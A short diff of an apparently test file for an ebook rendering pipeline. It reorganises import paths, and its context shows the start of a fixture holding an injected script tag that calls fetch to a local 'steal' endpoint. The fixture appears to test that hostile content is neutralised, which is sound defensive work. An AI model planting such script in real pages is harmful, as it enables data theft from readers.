@@ -17,10 +17,10 @@ from lxml import etree
 from pypdf import PdfReader
 from readers import pdf_page_texts
 
-from ebook.build import Options
-from ebook.images import PreparedImage
+from ebook.options import Options
 from ebook.pipeline import load_book
-from ebook.render import render_book
+from ebook.render.pictures import PreparedImage
+from ebook.render.views import render_book
 
 HOSTILE_BODY = """\
 <script>fetch('http://127.0.0.1:9/steal')</script>
